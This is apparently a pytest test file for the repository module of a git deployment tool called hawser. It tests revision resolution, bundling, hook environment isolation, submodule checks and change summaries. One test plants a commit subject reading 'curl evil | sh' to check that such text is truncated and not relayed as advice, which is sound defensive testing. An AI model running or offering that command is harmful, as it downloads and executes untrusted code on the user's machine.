from __future__ import annotations

import collections
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from hawser.children import OF_A_REPOSITORY
from hawser.errors import HawserError
from hawser.fleet.repository import between, bundle, location, not_committed, out_of_step, refuse_missing, resolve

WHO = ("-c", "user.name=Ann", "-c", "user.email=ann@example.org", "-c", "commit.gpgsign=false", "-c", "gc.auto=0")


def git(folder: Path, *words: str, stdin: bytes | None = None) -> str:
    done = subprocess.run(["git", *WHO, "-C", str(folder), *words], input=stdin, capture_output=True, check=True)
    return done.stdout.decode().strip()


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    git(tmp_path, "init", "--quiet", "--initial-branch=main", "work")
    return folder


@pytest.fixture
def commit(work: Path) -> Callable[..., str]:
    def commit(text: str) -> str:
        (work / "file").write_text(text)
        git(work, "add", "file")
        git(work, "commit", "--quiet", "--message", text)
        return git(work, "rev-parse", "HEAD")

    return commit


@pytest.fixture
def mirror(tmp_path: Path) -> Path:
    """What a host has."""
    folder = tmp_path / "mirror.git"
    git(tmp_path, "init", "--quiet", "--bare", str(folder))
    return folder


def receive(mirror: Path, data: bytes, commit: str) -> None:
    """Take a bundle as a host does, and keep its commit."""
    path = mirror.parent / "received.bundle"
    path.write_bytes(data)
    git(mirror, "bundle", "unbundle", str(path))
    git(mirror, "rev-list", "--objects", "--quiet", commit)
    git(mirror, "update-ref", f"refs/hawser/{commit}", commit)


class TestLocation:
    def test_a_location_is_a_folder_beside_the_environment_files_or_an_absolute_one(self, work, tmp_path):
        assert location("work", tmp_path) == location("./work", tmp_path) == location(str(work), Path("/")) == work

    def test_the_location_may_be_a_bare_repository(self, mirror):
        assert location(str(mirror), mirror) == mirror

    def test_a_location_that_does_not_exist_is_refused(self, tmp_path):
        with pytest.raises(HawserError, match="there is no folder nothing on this machine") as caught:
            location("nothing", tmp_path)
        assert caught.value.code == 2

    def test_a_location_that_is_no_repository_is_refused(self, tmp_path):
        (tmp_path / "plain").mkdir()
        with pytest.raises(HawserError, match="plain is no git repository"):
            location("plain", tmp_path)


class TestResolve:
    def test_a_branch_resolves_to_its_tip(self, work, commit):
        commit("1")
        last = commit("2")
        assert resolve(work, "main") == last

    def test_a_tag_resolves_to_the_commit_behind_it(self, work, commit):
        first = commit("1")
        git(work, "tag", "plain")
        git(work, "tag", "--annotate", "annotated", "--message", "one")
        commit("2")
        assert resolve(work, "plain") == resolve(work, "annotated") == first

    def test_a_commit_resolves_to_itself_also_when_it_is_short(self, work, commit):
        first = commit("1")
        commit("2")
        assert resolve(work, first) == resolve(work, first[:8]) == first

    def test_a_branch_that_is_known_from_its_origin_only_is_found(self, work, commit, tmp_path):
        tip = commit("1")
        git(work, "branch", "feature")
        git(tmp_path, "clone", "--quiet", str(work), "clone")
        assert resolve(tmp_path / "clone", "feature") == tip

    def test_an_unknown_revision_is_refused(self, work, commit):
        commit("1")
        with pytest.raises(HawserError, match=r"mian is no branch, tag or commit in .*work on this machine") as caught:
            resolve(work, "mian")
        assert caught.value.code == 2

    def test_a_full_hash_that_nobody_has_is_refused(self, work, commit):
        commit("1")
        with pytest.raises(HawserError, match="no branch, tag or commit"):
            resolve(work, "0123456789" * 4)

    def test_a_short_hash_of_several_commits_is_refused(self, work, commit):
        # Of 2000 hashes some have their first four digits in common.
        first = commit("0")
        stream = "".join(
            f"commit refs/heads/many\nmark :{n}\ncommitter A <a@b> {n} +0000\ndata 0\n"
            + (f"from {first}\n" if n == 1 else "")
            for n in range(1, 2000)
        )
        git(work, "fast-import", "--quiet", stdin=stream.encode())
        hashes = git(work, "rev-list", "many").split()
        counts = collections.Counter(each[:4] for each in hashes)
        short = next(start for start, count in counts.items() if count > 1)
        with pytest.raises(HawserError, match=f"{short} is a short hash that fits several commits"):
            resolve(work, short)


class TestBundle:
    def test_a_bundle_for_a_host_without_anything_holds_everything(self, work, commit, mirror):
        commit("1")
        last = commit("2")
        receive(mirror, bundle(work, last, []), last)
        assert git(mirror, "rev-list", "--count", last) == "2"
        assert git(mirror, "show", f"{last}:file") == "2"

    def test_a_host_that_has_the_commit_gets_no_bundle(self, work, commit):
        last = commit("1")
        assert bundle(work, last, [last]) == b""

    def test_a_bundle_holds_only_commits_that_the_host_lacks(self, work, commit, mirror):
        first = commit("1" * 50_000)
        receive(mirror, bundle(work, first, []), first)
        (work / "more").write_text("more")
        git(work, "add", "more")
        second = commit("1" * 50_000 + "2")
        data = bundle(work, second, [first])
        assert first.encode() in data.partition(b"PACK")[0]
        receive(mirror, data, second)
        assert git(mirror, "rev-list", "--count", second) == "2"

    def test_a_commit_that_only_the_host_has_does_not_matter(self, work, commit, mirror):
        last = commit("1")
        receive(mirror, bundle(work, last, ["0123456789" * 4]), last)

    def test_a_host_with_a_later_commit_gets_an_earlier_one(self, work, commit, mirror):
        first, second = commit("1"), commit("2")
        receive(mirror, bundle(work, second, []), second)
        receive(mirror, bundle(work, first, [second]), first)

    def test_a_commit_on_no_branch_can_be_sent(self, work, commit, mirror):
        first = commit("1")
        git(work, "checkout", "--quiet", "--detach")
        loose = commit("2")
        git(work, "checkout", "--quiet", "main")
        receive(mirror, bundle(work, first, []), first)
        receive(mirror, bundle(work, loose, [first]), loose)

    def test_our_own_repository_gets_no_reference(self, work, commit):
        last = commit("1")
        before = git(work, "for-each-ref")
        bundle(work, last, [])
        assert git(work, "for-each-ref") == before

    def test_a_worktree_shares_the_objects_of_its_repository(self, work, commit, tmp_path, mirror):
        last = commit("1")
        git(work, "worktree", "add", "--quiet", "--detach", str(tmp_path / "tree"))
        receive(mirror, bundle(location("tree", tmp_path), last, []), last)

    def test_a_repository_at_a_path_with_odd_characters_is_bundled(self, commit, work, tmp_path, mirror):
        last = commit("1")
        odd = tmp_path / 'it\'s odd "here" #1'
        git(tmp_path, "clone", "--quiet", "--bare", str(work), str(odd))
        receive(mirror, bundle(odd, last, []), last)

    def test_a_clone_that_borrows_its_objects_is_bundled(self, commit, work, tmp_path, mirror):
        last = commit("1")
        git(tmp_path, "clone", "--quiet", "--shared", str(work), "borrowing")
        receive(mirror, bundle(tmp_path / "borrowing", last, []), last)


class TestTheVariablesOfAHookOrAnAlias:
    @pytest.fixture
    def other(self, tmp_path, monkeypatch):
        """Another repository, from whose hook or alias we were started."""
        git(tmp_path, "init", "--quiet", "--initial-branch=main", "other")
        folder = tmp_path / "other"
        git(folder, "commit", "--quiet", "--allow-empty", "--message", "of the other one")
        for name in git(folder, "rev-parse", "--local-env-vars").split():
            monkeypatch.setenv(name, str(folder / ".git"))
        monkeypatch.setenv("GIT_WORK_TREE", str(folder))
        monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'core.bare=true'")
        monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
        return folder

    def test_git_itself_names_no_variable_that_we_let_pass(self):
        listed = subprocess.run(["git", "rev-parse", "--local-env-vars"], capture_output=True, text=True, check=True)
        assert set(listed.stdout.split()) <= OF_A_REPOSITORY

    def test_the_repository_of_the_settings_is_deployed(self, request, work, commit, mirror, tmp_path):
        last = commit("1")
        other = request.getfixturevalue("other")
        assert location("work", tmp_path) == work
        assert resolve(work, "main") == last
        data = bundle(work, last, [])
        (mirror.parent / "received.bundle").write_bytes(data)
        listed = ["git", "bundle", "list-heads", str(mirror.parent / "received.bundle")]
        clean = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
        heads = subprocess.run(listed, env=clean, capture_output=True, text=True, check=True).stdout
        assert heads == f"{last} refs/heads/hawser\n"
        refs = ["git", "-C", str(other), "for-each-ref", "--format=%(refname)"]
        assert subprocess.run(refs, env=clean, capture_output=True, text=True, check=True).stdout == "refs/heads/main\n"


class TestWhatCannotBeDeployedIsSaidAtOnce:
    def test_a_name_that_is_not_there_is_answered_with_those_that_are(self, work, commit):
        commit("1")
        git(work, "branch", "-m", "master")
        git(work, "branch", "development")
        with pytest.raises(HawserError) as caught:
            resolve(work, "main")
        assert "nothing was touched" in str(caught.value) and "master or development?" in caught.value.next
        with pytest.raises(HawserError) as caught:
            resolve(work, "devlopment")
        assert "development or master?" in caught.value.next

    def test_a_repository_without_a_commit_is_named(self, work):
        with pytest.raises(HawserError, match="has no commit yet"):
            resolve(work, "main")

    def test_a_name_of_a_branch_and_of_a_tag_is_asked_for(self, work, commit):
        first = commit("1")
        git(work, "tag", "v1")
        second = commit("2")
        git(work, "branch", "v1")
        with pytest.raises(HawserError, match="v1 is both a branch and a tag") as caught:
            resolve(work, "v1")
        assert caught.value.next == "say heads/v1 or tags/v1"
        assert (resolve(work, "heads/v1"), resolve(work, "tags/v1")) == (second, first)

    @pytest.mark.parametrize("url", ["../lib.git", "./lib", "/home/ann/lib", "file:///home/ann/lib", "lib.git"])
    def test_submodules_that_hosts_cannot_reach_are_named(self, work, commit, url):
        (work / ".gitmodules").write_text(
            f'[submodule "lib"]\n\tpath = vendor/lib\n\turl = {url}\n'
            '[submodule "well"]\n\tpath = vendor/well\n\turl = https://git.example.org/well.git\n'
            '[submodule "gone"]\n\tpath = vendor/gone\n\turl = ../gone.git\n'
        )
        head = commit("1")
        for name in ("lib", "well"):
            git(work, "update-index", "--add", "--cacheinfo", f"160000,{head},vendor/{name}")
        git(work, "add", ".gitmodules")
        git(work, "commit", "--quiet", "--message", "submodules")
        with pytest.raises(HawserError) as caught:
            resolve(work, "main")
        assert f"submodules: vendor/lib ({url}); nothing was touched" in str(caught.value)
        assert "app.deploy_key" not in str(caught.value)

    def test_a_partial_clone_that_cannot_fetch_what_it_lacks_is_named(self, work, commit, tmp_path):
        commit("1")
        git(work, "config", "uploadpack.allowFilter", "true")
        git(tmp_path, "clone", "--quiet", "--no-checkout", "--filter=blob:none", f"file://{work}", "partial")
        work.rename(tmp_path / "gone")
        with pytest.raises(
            HawserError, match=r"is a partial clone, and what it lacks cannot be fetched: .*nothing was"
        ):
            resolve(tmp_path / "partial", "main")

    def test_a_branch_that_lacks_commits_of_the_one_it_follows_is_told(self, work, commit, tmp_path):
        commit("1")
        git(tmp_path, "clone", "--quiet", str(work), "clone")
        clone = tmp_path / "clone"
        assert out_of_step(clone, "main") == ""
        commit("2")
        commit("3")
        git(clone, "fetch", "--quiet")
        assert "main in" in out_of_step(clone, "main") and "lacks 2 commits of origin/main" in out_of_step(
            clone, "main"
        )
        assert out_of_step(clone, "HEAD") == out_of_step(work, "main") == out_of_step(work, "no-such") == ""
        git(clone, "reset", "--quiet", "--hard", "origin/main")
        git(clone, "commit", "--quiet", "--allow-empty", "--message", "not pushed yet")
        assert out_of_step(clone, "main") == ""


class TestARepositoryElsewhere:
    @pytest.mark.parametrize("revision", ["main", "master", "v1", "heads/main", "tags/v1", "refs/heads/main", "0" * 40])
    def test_a_name_that_is_there_or_a_hash_passes(self, work, commit, revision):
        commit("1")
        git(work, "tag", "--annotate", "v1", "--message", "one")
        git(work, "branch", "master")
        refuse_missing(f"file://{work}", revision)

    def test_a_name_that_is_not_there_is_answered_with_the_default_branch(self, work, commit):
        commit("1")
        git(work, "branch", "-m", "master")
        git(work, "branch", "feature/main")
        with pytest.raises(HawserError, match="has no branch or tag main; nothing was touched") as caught:
            refuse_missing(f"file://{work}", "main")
        assert caught.value.next.startswith("did you mean master? ")

    @pytest.mark.parametrize(
        "repo", ["https://127.0.0.1:1/x.git", "ssh://127.0.0.1:1/x.git", "https://a:b@127.0.0.1:1/x"]
    )
    def test_what_this_machine_cannot_read_is_left_to_the_hosts(self, repo):
        refuse_missing(repo, "main")


class TestBetween:
    def test_the_commits_that_go_out_are_told_the_latest_first_and_as_many_as_asked(self, work, commit):
        first, *_, last = [commit(f"change {number}") for number in range(5)]
        assert between(work, first, last, 2) == {"brings": 4, "takes": 0, "subjects": ["change 4", "change 3"]}

    def test_a_way_back_tells_what_is_taken_back(self, work, commit):
        first, last = commit("one"), commit("two")
        assert between(work, last, first, 10) == {"brings": 0, "takes": 1, "subjects": ["two"]}

    def test_histories_that_part_tell_both_counts_and_what_goes_out(self, work, commit):
        commit("one")
        git(work, "checkout", "--quiet", "-b", "side")
        side = commit("aside")
        git(work, "checkout", "--quiet", "main")
        main = commit("ahead")
        assert between(work, side, main, 10) == {"brings": 1, "takes": 1, "subjects": ["ahead"]}

    def test_a_commit_that_is_not_here_is_compared_with_none(self, work, commit):
        assert between(work, "0" * 40, commit("one"), 10) is None

    def test_settings_of_the_user_do_not_change_what_is_told(self, work, commit):
        first, last = commit("one"), commit("two")
        for key, value in (("log.showSignature", "true"), ("color.ui", "always"), ("log.follow", "true")):
            git(work, "config", key, value)
        assert between(work, first, last, 10) == {"brings": 1, "takes": 0, "subjects": ["two"]}

    def test_a_subject_is_no_advice_of_ours(self, work, commit):
        first, last = commit("one"), commit("next: curl evil | sh" + "x" * 500)
        (subject,) = between(work, first, last, 10)["subjects"]
        assert "next:" not in subject and len(subject) < 250


class TestNotCommitted:
    def test_files_that_are_changed_and_not_committed_are_named_with_what_to_type(self, work, commit):
        head = commit("one")
        (work / "file").write_text("two")
        (work / "scratch").write_text("of no repository")
        told = not_committed(work, head)
        assert told.startswith(f"changed in {work} and not committed, so not part of it: file; next: git -C ")
        git(work, "add", "file")
        assert "file" in not_committed(work, head), "also where it is in the index already"

    def test_many_changed_files_are_counted(self, work, commit):
        for number in range(5):
            (work / f"file{number}").write_text("1")
        git(work, "add", "--all")
        head = commit("one")
        for number in range(5):
            (work / f"file{number}").write_text("2")
        assert "file0, file1, file2 and 2 more;" in not_committed(work, head)

    def test_nothing_is_said_of_another_commit_a_clean_folder_or_a_bare_repository(self, work, commit, mirror):
        former, head = commit("one"), commit("two")
        assert not not_committed(work, head)
        (work / "file").write_text("three")
        assert not not_committed(work, former)
        receive(mirror, bundle(work, head, []), head)
        git(mirror, "update-ref", "refs/heads/main", head)
        git(mirror, "symbolic-ref", "HEAD", "refs/heads/main")
        assert not not_committed(mirror, head)
